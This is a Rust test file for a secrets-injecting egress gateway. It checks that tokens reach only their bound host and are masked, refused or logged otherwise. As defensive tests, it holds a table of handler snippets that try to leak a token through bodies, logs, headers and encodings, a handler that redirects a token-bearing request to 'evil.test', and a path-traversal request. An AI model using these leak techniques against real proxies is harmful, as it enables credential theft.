//! Secrets in the hands of handlers: put into slots, and nowhere else.

use std::time::Duration;

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use e2e::{Received, Reply, Site, World, assert_token_absent, new_token, with_token_scan};
use serde_json::json;

use crate::support::{answer, assert_answer, assert_line, assert_refused, curl, handler};

/// What the secret TOKEN is declared as; `more` goes to its table.
fn declared(source: &str, more: &str) -> String {
    format!("[secrets.TOKEN]\nsource = \"{source}\"\nhosts = [\"api.test\"]\n{more}\n")
}

#[test]
fn every_slot_reaches_the_origin_and_nothing_else() {
    let world = World::new("slots");
    let site = Site::start(&world);
    let token = new_token();
    let basic = STANDARD.encode(format!("robot:{token}"));
    let slots = [
        ("header", "request.set_header(\"x-token\", env.secrets.TOKEN);"),
        ("around", "request.set_header(\"x-token\", \"a \", env.secrets.TOKEN, \" z\");"),
        ("bearer", "request.set_bearer(env.secrets.TOKEN);"),
        ("basic", "request.set_basic_auth(\"robot\", env.secrets.TOKEN);"),
        ("query", "request.set_query(\"key\", env.secrets.TOKEN);"),
        ("form", "request.method = \"POST\";\nrequest.set_form(#{ a: \"b c\", key: env.secrets.TOKEN });"),
        ("json", "request.method = \"POST\";\nrequest.set_json(#{ key: env.secrets.TOKEN });"),
    ];
    let mut text = declared("env://TOKEN", "");
    text += "[[rules]]\nhost = \"api.test\"\nhandler = \"handlers/slots.rhai\"";
    let arms: Vec<_> = slots.iter().map(|(name, code)| format!("\"/{name}\" => {{ {code} }}")).collect();
    handler(
        &world,
        "slots",
        &format!(
            "switch request.path {{ {} }}\nlog(\"info\", `x-token: ${{request.header(\"x-token\") ?? \"none\"}}`);\nfetch(request)",
            arms.join(",\n")
        ),
    );
    let urls: Vec<_> = slots.iter().map(|(name, _)| format!("https://api.test/{name}")).collect();
    let command = [&["curl", "-sS"][..], &urls.iter().map(String::as_str).collect::<Vec<_>>()].concat();
    let policy = site.policy(&world, &text, &["api.test"]);
    let outcome =
        world.gate(&policy).env("TOKEN", &token).run(with_token_scan(&world, &[&token, &basic], command));
    outcome.assert_success();
    assert_token_absent(&world, &outcome, &[&token, &basic]);
    let seen = site.tls.requests();
    let [header, around, bearer, with_basic, query, form, json] = &seen[..] else { panic!("{seen:#?}") };
    let one = |request: &Received, name: &str| request.header(name).join(", ");
    assert_eq!(one(header, "x-token"), token);
    assert_eq!(one(around, "x-token"), format!("a {token} z"));
    assert_eq!(one(bearer, "authorization"), format!("Bearer {token}"));
    assert_eq!(one(with_basic, "authorization"), format!("Basic {basic}"));
    assert_eq!(query.path, format!("/query?key={token}"));
    let form_body = String::from_utf8(form.body.clone()).unwrap();
    assert!(form_body.contains(&format!("key={token}")), "{form_body}");
    assert_eq!(one(form, "content-type"), "application/x-www-form-urlencoded");
    let body: serde_json::Value = serde_json::from_slice(&json.body).unwrap();
    assert_eq!(body, json!({"key": token}));
    assert_eq!(one(json, "content-type"), "application/json");
    assert!(outcome.lines("handler").iter().any(|line| line["message"] == "x-token: <secret TOKEN>"));
    for line in outcome.lines("fetch") {
        assert_line(line, &json!({"credentials": ["TOKEN"], "host": "api.test", "status": 200}));
    }
}

/// What handlers should not do with a secret, each for the path of its name, and what the log says.
const MISUSES: [(&str, &str); 15] = [
    ("added", "request.set_header(\"authorization\", \"Bearer \" + env.secrets.TOKEN); fetch(request)"),
    ("appended", "request.set_header(\"authorization\", env.secrets.TOKEN + \"\"); fetch(request)"),
    ("interpolated", "reply(200, `${env.secrets.TOKEN}`)"),
    ("to_string", "reply(200, env.secrets.TOKEN.to_string())"),
    ("message", "log(\"info\", `token: ${env.secrets.TOKEN}`); reply(200)"),
    ("field", "log(\"info\", \"token\", #{ token: env.secrets.TOKEN }); reply(200)"),
    ("deep_field", "log(\"info\", \"token\", #{ list: [#{ token: env.secrets.TOKEN }] }); reply(200)"),
    ("body", "reply(200, env.secrets.TOKEN)"),
    ("json_body", "reply(200, #{ token: env.secrets.TOKEN })"),
    (
        "response_header",
        "let response = reply(200); response.set_header(\"x-token\", env.secrets.TOKEN); response",
    ),
    (
        "fetched_header",
        "let response = fetch(request); response.set_header(\"x-token\", env.secrets.TOKEN); response",
    ),
    ("to_json", "reply(200, to_json(env.secrets.TOKEN))"),
    ("encoded", "reply(200, base64_encode(env.secrets.TOKEN))"),
    ("stored", "env.kv.put(\"token\", env.secrets.TOKEN); reply(200, env.kv.get(\"token\"))"),
    ("revealed", "reply(200, reveal(env.secrets.TOKEN))"),
];

#[test]
fn c01_misuse_of_a_secret_is_refused_and_logged_by_its_name() {
    let world = World::new("misuse");
    // An origin that tells what it got would show a credential that came through after all.
    let site = Site::answering(&world, |request| Reply::text(request.to_json().to_string()));
    let token = new_token();
    let arms: Vec<_> = MISUSES.iter().map(|(name, code)| format!("\"/{name}\" => {{ {code} }}")).collect();
    handler(&world, "misuse", &format!("switch request.path {{ {} }}", arms.join(",\n")));
    let text = format!(
        "{}[[rules]]\nhost = \"api.test\"\nhandler = \"handlers/misuse.rhai\"",
        declared("env://TOKEN", "")
    );
    let urls: Vec<_> = MISUSES.iter().map(|(name, _)| format!("https://api.test/{name}")).collect();
    let own = ["curl", "-sS", "-w", "\n%{http_code} %header{x-sluicegate-reason}\n"];
    let command = [&own[..], &urls.iter().map(String::as_str).collect::<Vec<_>>()].concat();
    let needles = [token.as_str(), &STANDARD.encode(&token)];
    let outcome = world
        .gate(&site.policy(&world, &text, &["api.test"]))
        .env("TOKEN", &token)
        .run(with_token_scan(&world, &needles, command));
    outcome.assert_success();
    assert_token_absent(&world, &outcome, &needles);
    let told: Vec<_> = outcome.stdout.lines().filter(|line| line.ends_with(" handler_failed")).collect();
    assert_eq!(told, vec!["502 handler_failed"; MISUSES.len()], "{outcome:#?}");
    for (name, _) in MISUSES {
        let exchanges = outcome.lines("exchange");
        let line = exchanges.iter().find(|line| line["path"] == format!("/{name}")).unwrap();
        let detail = line["detail"].as_str().unwrap();
        assert!(detail.contains("TOKEN") && detail.contains("handlers/misuse.rhai:"), "{name}: {detail}");
    }
    assert!(site.requests().iter().all(|request| !format!("{request:?}").contains(&token)));
}

#[test]
fn a_secret_does_not_follow_a_handler_to_another_host() {
    let world = World::new("unbound");
    let site = Site::start(&world);
    let token = new_token();
    let moves = "request.host = \"evil.test\";\ntry { return fetch(request); } catch { return reply(200, \"caught\"); }";
    handler(&world, "sends", &format!("request.set_bearer(env.secrets.TOKEN);\n{moves}"));
    handler(&world, "moves", moves);
    handler(
        &world,
        "plain",
        "let other = new_request(\"GET\", \"http://api.test/\");\nother.set_bearer(env.secrets.TOKEN);\nfetch(other)",
    );
    let names = ["api.test", "evil.test"];
    let run = |name: &str, rule: &str| {
        let text = format!(
            "{}[[rules]]\nhost = \"api.test\"\nhandler = \"handlers/{name}.rhai\"\n{rule}",
            declared("env://TOKEN", "")
        );
        let gate = world.gate(&site.policy(&world, &text, &names)).env("TOKEN", &token);
        let outcome = gate.run(with_token_scan(&world, &[&token], curl(&["https://api.test/"])));
        assert_token_absent(&world, &outcome, &[&token]);
        outcome
    };
    // What the handler itself put on is refused, and cannot be caught.
    let outcome = run("sends", "");
    assert_refused(&outcome, "secret_not_bound");
    assert!(outcome.only_exchange()["detail"].as_str().unwrap().contains("TOKEN"), "{outcome:#?}");
    assert_refused(&run("plain", ""), "secret_over_plain_http");
    site.assert_untouched();
    // What the rule puts on stays away when the handler sends the request elsewhere.
    let outcome = run("moves", "set_headers = { authorization = \"Bearer ${secret:TOKEN}\" }");
    assert_answer(&outcome, "origin: evil.test");
    assert_eq!(site.tls.only_request().header("authorization"), [""; 0]);
}

#[test]
fn the_secret_of_a_rule_goes_on_behind_its_handler() {
    let world = World::new("behind");
    let site = Site::start(&world);
    let token = new_token();
    handler(
        &world,
        "looks",
        "log(\"info\", `${request.header(\"authorization\")} ${request.header(\"x-plain\")}`);\nfetch(request)",
    );
    let rule = "[[rules]]\nhost = \"api.test\"\nhandler = \"handlers/looks.rhai\"\n\
                set_headers = { authorization = \"Bearer ${secret:TOKEN}\", x-plain = \"yes\" }";
    let policy = site.policy(&world, &format!("{}{rule}", declared("env://TOKEN", "")), &["api.test"]);
    let ask = curl(&["-H", "authorization: Bearer placeholder", "https://api.test/"]);
    let outcome = world.gate(&policy).env("TOKEN", &token).run(with_token_scan(&world, &[&token], ask));
    assert_answer(&outcome, "origin: api.test");
    assert_token_absent(&world, &outcome, &[&token]);
    assert_eq!(site.tls.only_request().header("authorization"), [format!("Bearer {token}")]);
    let message = outcome.lines("handler")[0]["message"].as_str().unwrap().to_owned();
    assert!(message.ends_with(" yes") && !message.contains(&token), "{message}");
}

#[test]
fn c04_a_rotated_secret_is_what_a_handler_sends_next() {
    let world = World::new("c04");
    let site = Site::start(&world);
    let tokens = [new_token(), new_token()];
    handler(&world, "bearer", "request.set_bearer(env.secrets.TOKEN);\nfetch(request)");
    let source = format!("file://{}", world.path("token").display());
    let text = format!("outbound = \"handlers/bearer.rhai\"\n{}", declared(&source, ""));
    world.file("token", &tokens[0]);
    let gate = world.gate(&site.policy(&world, &text, &["api.test"])).attach();
    assert_answer(&gate.run(curl(&["https://api.test/"])), "origin: api.test");
    world.file("token", &tokens[1]);
    assert_answer(&gate.run(curl(&["https://api.test/"])), "origin: api.test");
    let sent: Vec<_> =
        site.tls.requests().iter().map(|request| request.header("authorization").join("")).collect();
    assert_eq!(sent, tokens.map(|token| format!("Bearer {token}")));
}

/// Answers with what it got, in each form in which a token may come back, by headers and a body.
fn telling(request: &Received) -> Reply {
    let authorization = request.header("authorization").join("");
    let token = authorization.strip_prefix("Bearer ").unwrap_or("no token");
    let percent: String = token.bytes().map(|byte| format!("%{byte:02X}")).collect();
    let forms = [
        token.to_owned(),
        STANDARD.encode(token),
        URL_SAFE_NO_PAD.encode(token),
        token.replace('/', "%2F").replace('+', "%2B").replace('=', "%3D"),
        token.replace('/', "%2f").replace('+', "%2b").replace('=', "%3d"),
        percent,
        token.replace('/', "\\/"),
    ];
    let body = format!("<{}>", forms[..5].join("|"));
    let reply = Reply::new(200, "").header("x-echo", token).header("x-base64", &forms[1]);
    match request.path.as_str() {
        "/whole" => reply.then(body),
        "/encoded" => reply.header("content-encoding", "gzip").then(body),
        _ => body
            .as_bytes()
            .chunks(3)
            .fold(reply, |reply, piece| reply.then(piece.to_vec()).pause(Duration::from_millis(2)))
            .chunked(),
    }
}

#[test]
fn c05_what_an_origin_tells_of_a_token_is_masked() {
    let world = World::new("c05");
    let site = Site::answering(&world, telling);
    let token = format!("sg/token+{}==", new_token());
    handler(&world, "bearer", "request.set_bearer(env.secrets.TOKEN);\nfetch(request)");
    handler(
        &world,
        "reads",
        "request.set_bearer(env.secrets.TOKEN);\nlet response = fetch(request);\nlet text = response.read_text(65536);\n\
         log(\"info\", text, #{ echo: response.header(\"x-echo\") });\nresponse",
    );
    let rules = [
        "set_headers = { authorization = \"Bearer ${secret:TOKEN}\" }",
        "handler = \"handlers/bearer.rhai\"",
        "handler = \"handlers/reads.rhai\"",
    ];
    let needles = [
        token.clone(),
        STANDARD.encode(&token),
        URL_SAFE_NO_PAD.encode(&token),
        token.replace('/', "%2F").replace('+', "%2B").replace('=', "%3D"),
    ];
    let needles: Vec<_> = needles.iter().map(String::as_str).collect();
    for rule in rules {
        for path in ["whole", "pieces"] {
            for version in ["--http1.1", "--http2"] {
                let text = format!(
                    "{}[[rules]]\nhost = \"api.test\"\n{rule}",
                    declared("env://TOKEN", "scrub = true")
                );
                let url = format!("https://api.test/{path}");
                let ask = ["curl", "-sS", "-i", "--compressed", version, &url];
                let gate = world.gate(&site.policy(&world, &text, &["api.test"])).env("TOKEN", &token);
                let outcome = gate.run(with_token_scan(&world, &needles, ask));
                outcome.assert_success();
                assert_token_absent(&world, &outcome, &needles);
                let stars = "*".repeat(token.len());
                assert!(
                    outcome.stdout.contains(&format!("x-echo: {stars}\r\n")),
                    "{rule} {path}: {outcome:?}"
                );
                let (_, body) = outcome.stdout.split_once("\r\n\r\n").unwrap();
                assert!(
                    body.starts_with(&format!("<{stars}|*")) && body.ends_with('>'),
                    "{rule} {path}: {body}"
                );
                assert!(!body.to_lowercase().contains("%2f"), "{rule} {path}: {body}");
                let received = site.tls.requests().pop().unwrap();
                assert_eq!(received.header("authorization"), [format!("Bearer {token}")]);
                assert_eq!(received.header("accept-encoding"), [""; 0]);
            }
        }
    }
}

#[test]
fn c05_an_answer_that_cannot_be_searched_is_not_passed_on() {
    let world = World::new("c05-encoded");
    let site = Site::answering(&world, telling);
    let token = new_token();
    handler(&world, "bearer", "request.set_bearer(env.secrets.TOKEN);\nfetch(request)");
    for rule in
        ["set_headers = { authorization = \"Bearer ${secret:TOKEN}\" }", "handler = \"handlers/bearer.rhai\""]
    {
        let text =
            format!("{}[[rules]]\nhost = \"api.test\"\n{rule}", declared("env://TOKEN", "scrub = true"));
        let gate = world.gate(&site.policy(&world, &text, &["api.test"])).env("TOKEN", &token);
        let ask = curl(&["-i", "https://api.test/encoded"]);
        let outcome = gate.run(with_token_scan(&world, &[&token], ask));
        assert!(answer(&outcome).1.starts_with("502 "), "{rule}: {outcome:?}");
        assert_token_absent(&world, &outcome, &[&token]);
    }
}

#[test]
fn c05_a_token_does_not_come_out_in_parts() {
    let world = World::new("c05-range");
    let site = Site::start(&world);
    let text = format!(
        "{}[[rules]]\nhost = \"api.test\"\nset_headers = {{ authorization = \"Bearer ${{secret:TOKEN}}\" }}",
        declared("env://TOKEN", "scrub = true")
    );
    let gate = world.gate(&site.policy(&world, &text, &["api.test"])).env("TOKEN", &new_token()).attach();
    gate.run(curl(&["-H", "range: bytes=0-3", "-H", "if-range: \"a\"", "https://api.test/"]))
        .assert_success();
    let request = site.requests().remove(0);
    let names: Vec<_> = request.headers.iter().map(|(name, _)| name.as_str()).collect();
    assert!(!names.contains(&"range") && !names.contains(&"if-range"), "{names:?}");
}

#[test]
fn c06_methods_and_paths_of_a_rule_hold_with_a_handler() {
    let world = World::new("c06");
    let site = Site::start(&world);
    let token = new_token();
    handler(
        &world,
        "git",
        "log(\"info\", \"ran\");\nrequest.set_basic_auth(\"x\", env.secrets.TOKEN);\nfetch(request)",
    );
    let rule = "[[rules]]\nhost = \"api.test\"\nmethods = [\"GET\", \"POST\"]\n\
                paths = [\"/team/repo.git/info/refs\", \"/team/repo.git/git-upload-pack\"]\nhandler = \"handlers/git.rhai\"";
    let text = format!("{}{rule}", declared("env://TOKEN", ""));
    let gate = world.gate(&site.policy(&world, &text, &["api.test"])).env("TOKEN", &token).attach();
    let base = "https://api.test/team/repo.git";
    assert_answer(
        &gate.run(curl(&[&format!("{base}/info/refs?service=git-upload-pack")])),
        "origin: api.test",
    );
    assert_answer(&gate.run(curl(&["-d", "x", &format!("{base}/git-upload-pack")])), "origin: api.test");
    for path in ["/git-receive-pack", "/other", "/info/refs/../../../other.git"] {
        let outcome = gate.run(curl(&["--http1.1", "--path-as-is", "-d", "x", &format!("{base}{path}")]));
        assert!(answer(&outcome).1.starts_with("403 "), "{path}: {outcome:?}");
    }
    let outcome = gate.run(curl(&["-X", "DELETE", &format!("{base}/info/refs")]));
    assert_refused(&outcome, "no_rule_matches");
    assert_eq!(site.requests().len(), 2);
    let log = gate.log();
    assert_eq!(log.iter().filter(|line| line["kind"] == "handler").count(), 2, "{log:#?}");
}
